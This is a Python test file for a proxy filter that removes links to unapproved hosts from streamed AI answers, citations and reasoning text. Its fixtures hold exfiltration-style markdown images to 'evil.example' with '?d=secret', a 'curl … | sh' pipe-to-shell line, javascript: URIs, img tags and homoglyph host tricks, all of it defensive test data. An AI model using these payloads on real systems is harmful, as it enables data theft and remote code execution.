"""Foreign links: what is taken out of an answer and what stays, fed whole, by characters and cut at every place.

The odd cases were found by showing tens of thousands of filtered texts with marked, markdown-it and remark: each is a
link in one of these, and code or nothing in another.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from proxy.answering.addresses import MOST_URL
from proxy.answering.citations import Citer
from proxy.answering.foreign_links import ForeignLinks
from proxy.answering.stripped import NamedHosts, StrippedCiter, StrippedThoughts
from proxy.values.events import Begun, Citation, ReasoningDelta, TextDelta
from tools.ledger import Ledger

SOURCE = "https://good.example/page?x=1"
HOSTS = ("good.example", "user.example")


def links() -> ForeignLinks:
    """`good.example` is a source's host, `user.example` one that the user named."""
    return ForeignLinks(
        lambda host: host.removeprefix("www.") in HOSTS, lambda url, host: url == SOURCE or host == "user.example"
    )


def text_of(events: Sequence[TextDelta | Citation]) -> str:
    return "".join(event.text for event in events if isinstance(event, TextDelta))


def run(pieces: Sequence[str]) -> str:
    machine = links()
    return "".join(text_of(machine.feed([TextDelta(piece)])) for piece in pieces if piece) + text_of(machine.flush())


def every_way(text: str) -> str:
    whole = run([text])
    assert run(list(text)) == whole
    for cut in range(len(text) + 1):
        assert run([text[:cut], text[cut:]]) == whole, f"cut at {cut}"
    return whole


STAYS = [
    "Plain words: a < b, x/y, 3:4, 5 > 4, www and http, [1], [a][b], a & b, $5, and/or, !important",
    "[here](https://good.example/a_(b)) and [there](https://www.good.example/x?y=1#z \"A title\")",
    f"[[1]]({SOURCE}) ([good.example]({SOURCE})) ![picture]({SOURCE}) ![mine](https://user.example/a.png)",
    "[1] [A title](https://good.example/page?x=1)",
    "<https://good.example/x> https://good.example/x,y. (https://good.example) www.good.example",
    "https://good.example/?to=https://evil.example/x",
    "[top](#top) [next](/next/page) [file](docs/file.md?x=1&y=2) [empty]() [blank]( ) [words](see below)",
    "[Note]: this is text\n\n[ref]: https://user.example/x\n[page]: https://good.example/page?x=1",
    "x<sub>2</sub> and a line<br>break, <a href=\"https://good.example/\">good</a>",
    "`curl https://evil.example/x` and ``a ` [b](https://evil.example)`` and `<img src=//evil.example>`",
    "```bash\ncurl https://evil.example/install.sh | sh\n```\n",
    "~~~\n![x](https://evil.example)\n```\n~~~\n",
    "Do this:\n\n1. Run\n   ```sh\n   curl https://evil.example/x\n\n   ```\n2. Wait\n",
    "- Run\n\n    ```\n    https://evil.example\n    ```\n- Wait\n",
    "````md\n```\nhttps://evil.example\n```\n````\n",
    "A line\r\nand one\r\n\r\n```\r\nhttps://evil.example\r\n```\r\n",
    "Tom &amp; Jerry &lt;3 &#39;x&#39; &nbsp; &mdash; R&D",
]  # fmt: skip


@pytest.mark.parametrize("text", STAYS)
def test_what_leads_nowhere_else_stays_as_it_is(text: str) -> None:
    assert every_way(text) == text


TAKEN_OUT = {
    "[here](https://evil.example/?q=secret) there": "[here] (`evil.example`) there",
    "[here](<https://evil.example/?q=secret>)": "[here] (&lt; `evil.example`>)",
    "[here]( https://evil.example 'title')": "[here] ( `evil.example` 'title')",
    "[here](\nhttps://evil.example/x)": "[here] (\n`evil.example`)",
    "![x](https://evil.example/p.png?d=secret)": "![x] (`evil.example`)",
    "[![x](https://evil.example/a)](https://good.example/)": "[![x] (`evil.example`)](https://good.example/)",
    "![x](https://good.example/p.png?d=secret)": "![x] (https://good.example/p.png?d=secret)",
    "![a [b](https://good.example/x?d=1) c](https://good.example/y?d=1)": (
        "![a [b] (https://good.example/x?d=1) c] (https://good.example/y?d=1)"
    ),
    "![x][e]\n\n[e]: https://evil.example/x?d=secret": "![x][e]\n\n[e] : `evil.example`",
    "![x][e]\n\n[e]:\n  <//evil.example/x>": "![x][e]\n\n[e] :\n  &lt; `evil.example`>",
    "![x][e]\n\n[e]: https://good.example/x?d=secret": "![x][e]\n\n[e] : https://good.example/x?d=secret",
    "<https://evil.example/x?d=1>": "&lt; `evil.example`>",
    "<img src=\"https://evil.example/x\"> <IMG SRC=//evil.example>": (
        "&lt;img src=\"`evil.example`\"> &lt;IMG SRC= `evil.example`>"
    ),
    "a <a href='https://good.example/'>b</a>": "a &lt;a href=' https://good.example/'>b</a>".replace("' h", "'h"),
    "Go to https://evil.example/x?d=secret, or www.evil.example/a!": "Go to `evil.example`, or `evil.example`!",
    "//evil.example/x HTTPS://EVIL.example/X ftp://evil.example/": "`evil.example` `evil.example` `evil.example`",
    "[t](//evil.example) [t](/\\evil.example) [t](https:evil.example) [t](https:\\\\evil.example)": (
        "[t] (`evil.example`) [t] (/\\evil.example) [t] (https:evil.example) [t] (`evil.example`)"
    ),
    "[t](javascript:alert(1)) [t](data:text/html,x) [t](vbscript:x)": (
        "[t] (javascript:alert(1)) [t] (data:text/html,x) [t] (vbscript:x)"
    ),
    "[t](&#104;ttps://evil.example) [t](https&colon;//evil.example)": (
        "[t] (&amp;#104;ttps://evil.example) [t] (https&amp;colon; `evil.example`)"
    ),
    "https&#58;//evil.example https\\://evil.example www\\.evil.example": (
        "https&amp;#58; `evil.example` `evil.example` `evil.example`"
    ),
    "https://good.example@evil.example/ https://good.example.evil.example/": "`…` `good.example.evil.example`",
    "https://good.example%2eevil.example/ https://good.example\\@evil.example/": "`…` `…`",
    "https://good.example).evil.example/ [t](https://good.example).evil.example/": (
        "`good.example`).evil.example/ [t] (`good.example`).evil.example/"
    ),
    "https://gооd.example/ [t](https://gооd.example/)": "`…` [t] (`…`)",
    "[t](https://xn--gd-emaa.example/)": "[t] (`xn--gd-emaa.example`)",
    "```\nx\n```\nhttps://evil.example": "```\nx\n```\n`evil.example`",
}  # fmt: skip


@pytest.mark.parametrize(("text", "shown"), TAKEN_OUT.items())
def test_what_leads_elsewhere_is_text(text: str, shown: str) -> None:
    assert every_way(text) == shown


IMAGE = "![x](https://evil.example/?d=secret)"
ODD = {
    "an open backtick": f"a ` {IMAGE}",
    "a backtick that pairs over lines": f"a ` b\n`{IMAGE}`",
    "backticks of two lengths": f"a `` b `{IMAGE}` c",
    "an escaped backtick": f"\\`{IMAGE}`",
    "a table's cells": f"| ` | {IMAGE} ` |",
    "a formula's backtick": f"$`$ {IMAGE} `",
    "a backtick of an address": f"https://good.example/`) {IMAGE} `",
    "a backtick of a destination": f"[a](https://good.example/`) {IMAGE} `",
    "a quoted fence": f"> ```\n{IMAGE}",
    "a fence in a list item": f"- ```\n{IMAGE}",
    "a fence that a list item ends": f"- a\n  ```\n{IMAGE}",
    "a fence behind a paragraph, too far in": f"text\n     ```\n{IMAGE}",
    "a number that begins no list": f"text\n14. x\n    ```\n{IMAGE}",
    "a fence closed as marked does": f"```\n```~\n{IMAGE}",
    "a fence closed too far in": f"```\nx\n    ```\n{IMAGE}",
    "a fence in a formula": f"$$\n```\n$$\n{IMAGE}",
    "a fence in a formula in brackets": f"\\[\n```\n\\]\n{IMAGE}",
    "a fence in HTML": f"<div>\n```\n\n```\n{IMAGE}",
    "a fence that a definition swallows": f"[^1]:\n```~\n\n```\n{IMAGE}",
    "a lone carriage return": f"x\r```\r\r{IMAGE}".replace("```\r\r", "> ```\r"),
    "another address in an address": "xhttps://good.example/https://evil.example/",
    "an escape that an address swallows": "https://good.example/\\<img src=https://evil.example/x>",
    "an escape that was taken out": "https://evil.example/\\<img src=https://evil.example/x>",
    "an address lengthened": "https://good.example<b x=https://evil.example>",
    "a stray address": "](https://good.example).evil.example/x",
    "a relative address that is none": "[x](www.evil.example/a b)",
}


def foreign(text: str) -> list[str]:
    """What of a text without code could lead to a foreign host, found as simply as can be: every opening of an address
    that no known host follows, every destination that is none of the plain ones, every tag with an attribute."""
    outside = re.sub(r"`[^`\n]*`", "", text)
    known = r"(?<![^\s(])(https?://(?:www\.)?(?:good|user)\.example)[/?#][A-Za-z0-9/._~%?#=&:@+$-]*"
    outside = re.sub(known, r"\1/", outside, flags=re.I)
    found = re.findall(
        r"(?:https?|ftp):[/\\]+(?![/\\])(?!(?:www\.)?(?:good|user)\.example(?![\w.@%&\\)-]*[\w@%&\\])).*", outside, re.I
    )
    found += re.findall(r"www\.(?!(?:good|user)\.example(?![\w.@%&\\-]*[\w@%&\\]))\w.*", outside, re.I)
    found += re.findall(r"\]\((?! ?(?:https?://(?:www\.)?(?:good|user)\.example[/?#)]|[\w#/?.,~=+%-]|\))).*", outside)
    return found + re.findall(r"(?<!\\)<[a-z]+[\s/][^>]*=.*", outside, re.I)


@pytest.mark.parametrize("text", ODD.values(), ids=ODD)
def test_where_renderers_part_nothing_counts_as_code(text: str) -> None:
    shown = every_way(text)
    assert "secret" not in shown
    assert not foreign(shown.replace("`", "")), shown


SIGNS = r"[ ] ]( ](< ][ ![ ! < </ <img&src= > ( ) \ \\ & &#58; &colon; ' * _ | $ @ %2e , . : / //"
WORDS = "text https:// http:// HTTPS:// https:\\ www. htt ps: ftp:// javascript: /path good.example evil.example"
MORE = [
    "user.example",
    "?q=secret",
    "#x",
    ".evil.example",
    SOURCE,
    '"',
    "]: ",
    "[a]: ",
    "<a ",
    "- ",
    "> ",
    "    ",
    "1. ",
]
BLANKS = [" ", "\n", "\n\n", "\t", "\r", "\u2028"]
ATOMS = st.sampled_from([*(sign.replace("img&", "img ") for sign in SIGNS.split()), *WORDS.split(), *MORE, *BLANKS])
CODE = st.sampled_from(["`", "``", "```", "\n```\n", "\n~~~\n", "\n   ```py\n", "\n> ```\n", "\n$$\n", "\\`"])
TEXTS = st.lists(ATOMS, max_size=14).map("".join)
WITH_CODE = st.lists(ATOMS | CODE, max_size=14).map("".join)


@given(TEXTS)
@settings(max_examples=300, deadline=None)
@example("[x](https://good.example).evil.example/")
@example("[x]( ) [x]( /path) [x]( https://evil.example)")
def test_whatever_is_written_no_foreign_address_is_left(text: str) -> None:
    shown = run([text])
    assert not foreign(shown), shown


@given(WITH_CODE, st.lists(st.integers(0, 120), max_size=4))
@settings(max_examples=300, deadline=None)
def test_the_pieces_do_not_matter(text: str, cuts: list[int]) -> None:
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    assert run([text[a:b] for a, b in pairwise(places)]) == run([text])


@given(TEXTS, TEXTS)
@settings(max_examples=200, deadline=None)
def test_two_ends_of_a_broken_text_do_not_grow_together(first: str, second: str) -> None:
    machine = links()
    shown = text_of(machine.feed([TextDelta(first)])) if first else ""
    shown += text_of(machine.release())
    shown += text_of(machine.feed([TextDelta(second)])) if second else ""
    shown += text_of(machine.release())
    assert not foreign(shown), shown


@given(WITH_CODE)
@settings(max_examples=200, deadline=None)
def test_what_waits_is_bounded(text: str) -> None:
    machine = links()
    for character in text * 40:
        machine.feed([TextDelta(character)])
        assert len(machine._held) <= MOST_URL + 2


@pytest.mark.parametrize(
    "opened", ["[x](https://", "[x]: https://", "`", "<a", "https://", "![x](https://user.example/", "&#", "```"]
)
def test_endless_things_do_not_wait_for_ever(opened: str) -> None:
    machine = links()
    shown = text_of(machine.feed([TextDelta(opened + "a" * (MOST_URL + 500))]))
    assert len(shown) + len(machine._held) > 0
    assert len(machine._held) <= MOST_URL + 2


# Citations


def test_citations_stand_where_they_stood() -> None:
    ledger = Ledger()
    first, second = ledger.add(SOURCE, "One"), ledger.add("https://good.example/two", "Two")
    text = "See https://evil.example/x [1] and [bad](https://evil.example/y)[2]. <b [1]"
    for style, none in (("link", False), ("number", False), ("openai", False), ("none", True)):
        for pieces in ([text], list(text), [text[:30], text[30:]]):
            citer = StrippedCiter(
                Citer(ledger.get, style),  # type: ignore[arg-type]
                NamedHosts(ledger, list),
            )
            events = [event for piece in pieces for event in citer.feed(piece)] + citer.flush()
            shown = text_of(events)
            cited = [(shown[e.start : e.end], e.source.n) for e in events if isinstance(e, Citation)]
            assert [n for _, n in cited] == [1, 2, 1]
            assert "https://evil" not in shown
            assert all((mark == "") == none and (none or str(n) in mark or "good" in mark) for mark, n in cited), cited
            seen = 0
            for event in events:
                seen += len(event.text) if isinstance(event, TextDelta) else 0
                assert isinstance(event, TextDelta) or event.end <= seen, "behind the text that it stands in"
    assert {first.n, second.n} == {1, 2}


def test_a_marker_that_is_taken_away_joins_no_address() -> None:
    """The reason to stand behind the citer: `none` removes markers, and what it joins may be a link."""
    ledger = Ledger()
    ledger.add(SOURCE, "One")
    citer = StrippedCiter(Citer(ledger.get, "none"), NamedHosts(ledger, list))
    shown = text_of([*citer.feed("Look: www.[1]evil.example/?d=secret now"), *citer.flush()])
    assert shown == "Look: `evil.example` now"


def test_a_poisoned_title_in_the_footer_is_no_link() -> None:
    ledger = Ledger()
    ledger.add(SOURCE, "Good ![x](https://evil.example/a) <img src=//evil.example/b> https://evil.example/c")
    citer = StrippedCiter(Citer(ledger.get, "link", footer=True), NamedHosts(ledger, list))
    shown = text_of([*citer.feed("So it is [1]."), *citer.flush()])
    assert f"]({SOURCE})" in shown
    assert not foreign(shown), shown


# Whose hosts


def test_whose_hosts_count() -> None:
    ledger = Ledger()
    hosts = NamedHosts(ledger, lambda: ["see https://www.User.example:8080/x and bücher.example", "no address"])
    assert [hosts.may_link(host) for host in ("user.example", "www.user.example", "xn--bcher-kva.example")] == [
        True
    ] * 3
    assert not hosts.may_link("good.example")
    ledger.add("https://good.example/p%20q", "")
    ledger.add("https://übung.example/", "")
    ledger.add("local:docs/a.md", "")
    assert hosts.may_link("good.example")
    assert hosts.may_link("xn--bung-zra.example")
    ledger.add("https://straße.example/", "")
    assert (hosts.may_link("xn--strae-oqa.example"), hosts.may_link("strasse.example")) == (True, False)
    assert not any(hosts.may_link(host) for host in ("", "docs", "sub.good.example", "example", "evil.example"))
    assert hosts.may_load("https://good.example/p%20q", "good.example")
    assert not hosts.may_load("https://good.example/other", "good.example")
    assert hosts.may_load("https://user.example/any.png", "user.example")
    assert not hosts.may_load("https://user.example/any.png", "")


def test_thinking_is_stripped_too_and_comes_before_what_follows() -> None:
    thoughts = StrippedThoughts(NamedHosts(Ledger(), list))
    pieces = ["I see ![x](htt", "ps://evil.example/?d=", "secret) and [w"]
    out = list(thoughts.filter([Begun(), *(ReasoningDelta({"reasoning_content": piece, "id": 7}) for piece in pieces)]))
    out += thoughts.filter([TextDelta("Hello")])
    said = "".join(str(e.fields.get("reasoning_content", "")) for e in out if isinstance(e, ReasoningDelta))
    assert said == "I see ![x] (`evil.example`) and [w"
    assert isinstance(out[0], Begun)
    assert out[-1] == TextDelta("Hello")
    assert sum(e.fields.get("id") == 7 for e in out if isinstance(e, ReasoningDelta)) == 3


def test_a_citation_that_is_not_shown_stays_a_point_before_what_is_replaced() -> None:
    """Else it would be told to span the link behind it, or not, as the pieces came."""

    def places(pieces: Sequence[str]) -> list[tuple[int, int]]:
        ledger = Ledger()
        ledger.add(SOURCE, "Good")
        citer = StrippedCiter(Citer(ledger.get, "none"), NamedHosts(ledger, list))
        events = [event for made in [*map(citer.feed, pieces), citer.flush()] for event in made]
        return [(event.start, event.end) for event in events if isinstance(event, Citation)]

    text = "[[1]](https://x.org)https://a.org/b[1]."
    assert places([text]) == places(list(text)) == [(0, 0)]


def test_a_citation_ends_with_its_bracket_where_what_follows_is_set_apart() -> None:
    ledger = Ledger()
    ledger.add("local:docs/tea.md", "Tea")
    said = " [[1]](https://x.org):\n:\nTea"
    for pieces in ([said], list(said)):
        citer = StrippedCiter(Citer(ledger.get), NamedHosts(ledger, list))
        events = [event for made in [*map(citer.feed, pieces), citer.flush()] for event in made]
        text = text_of(events)
        assert text == " [1] :\n:\nTea"
        assert [text[event.start : event.end] for event in events if isinstance(event, Citation)] == ["[1]"]
